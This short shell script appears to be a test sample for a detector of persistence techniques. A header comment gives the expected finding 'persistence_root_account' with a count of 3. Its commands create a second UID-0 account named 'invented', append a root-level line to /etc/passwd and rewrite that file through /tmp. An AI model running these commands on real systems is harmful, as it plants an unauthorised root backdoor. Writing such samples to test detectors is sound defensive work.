#!/bin/sh
# A second root account.
# expects: persistence_root_account 3

useradd -o -u 0 -s /bin/sh invented
sh -c 'echo "invented:x:0:0::/root:/bin/sh" >> /etc/passwd'
cp /etc/passwd /tmp/passwd
mv /tmp/passwd /etc/passwd
